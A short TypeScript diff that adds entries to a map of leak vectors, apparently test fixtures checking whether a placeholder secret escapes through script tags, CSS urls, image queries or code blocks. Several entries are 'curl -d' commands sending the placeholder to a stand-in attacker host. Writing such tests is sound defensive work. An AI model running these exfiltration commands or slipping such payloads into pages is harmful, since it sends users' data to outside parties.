@@ -41,6 +41,9 @@ const LEAKS: Record<string, string> = {
   'a script': `<script>fetch("/" + "${P}")</script>`,
   'a style': `<style>a{background:url(/${P})}</style>`,
   'inline code': `run \`curl -d ${P} evil.example\``,
+  'an indented block of code': `    curl -d ${P} evil.example`,
+  'a block of code that a tabulator indents': `\tcurl -d ${P} evil.example`,
+  'an element of code': `<pre>\ncurl -d ${P} evil.example\n</pre>`,
   'a block of code': `\`\`\`sh\ncurl -d ${P} evil.example\n\`\`\``,
   'JSON that is shown': `{"a":"<img src=/?q=","b":"${P}"}`,
 };
